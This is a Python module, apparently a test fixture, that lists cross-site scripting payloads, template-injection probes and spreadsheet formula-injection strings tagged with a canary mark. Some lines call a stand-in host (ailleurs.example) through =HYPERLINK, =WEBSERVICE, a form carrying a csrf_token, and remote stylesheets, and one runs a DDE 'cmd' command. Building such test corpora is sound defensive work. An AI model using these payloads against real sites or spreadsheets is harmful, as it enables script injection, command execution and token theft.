"""What a hostile hand types: each begins as a formula would, or tries to leave the text it stands in."""

MARK = "odd17canari"
SCRIPTS = (
    f"<script>alert('{MARK}')</script>",
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=alert('{MARK}')>",
    f'" autofocus onfocus="alert(`{MARK}`)" {MARK}="',
    f"' onmouseover='alert(1)' {MARK}='",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<svg><style>@import 'https://ailleurs.example/{MARK}.css';</style></svg>",
    f"<{MARK} onclick=alert(1)>toucher</{MARK}>",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</select><script>alert('{MARK}')</script>",
    f"--><script>alert('{MARK}')</script><!--",
    f"]]><script>alert('{MARK}')</script>",
    f"<iframe src=javascript:alert('{MARK}')></iframe>",
    f"<iframe srcdoc='<script>alert(1)</script>{MARK}'></iframe>",
    f"<a href=javascript:alert('{MARK}')>ici</a>",
    f"<form action=https://ailleurs.example/{MARK}><input name=csrf_token>",
    f"<base href=https://ailleurs.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=https://ailleurs.example/{MARK}'>",
    f"<link rel=stylesheet href=https://ailleurs.example/{MARK}.css>",
    f"<style>*{{background:url(https://ailleurs.example/{MARK})}}</style>",
    f"<div hx-get=/deconnexion hx-trigger=load hx-on:load=alert(1)>{MARK}</div>",
    f"{{{{ 7*7 }}}}{{% raw %}}{MARK}",
    f"${{alert('{MARK}')}}#{{7*7}}<%= 7*7 %>",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
    f"\u202e<script>alert('{MARK}')</script>\u202d",
    f"javascript:alert('{MARK}')",
)
FORMULAS = (
    f'=HYPERLINK("https://ailleurs.example/{MARK}","Voir")',
    f"=1+1+cmd|' /C calc'!{MARK}",
    f"+1+1+{MARK}",
    f"-2+3+{MARK}",
    f"@SUM(1+1){MARK}",
    f"\t=1+1+{MARK}",
    f"\r=1+1+{MARK}",
    f"=WEBSERVICE(\"https://ailleurs.example/{MARK}\")<script>alert('{MARK}')</script>",
)
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")
CORPUS = tuple(one for pair in zip(SCRIPTS, FORMULAS * 4, strict=True) for one in pair)
EMAIL = f"\"<img/src=x/onerror=alert('{MARK}')>\"@exemple.fr"
ADDRESS = f"javascript:alert('{MARK}')//"
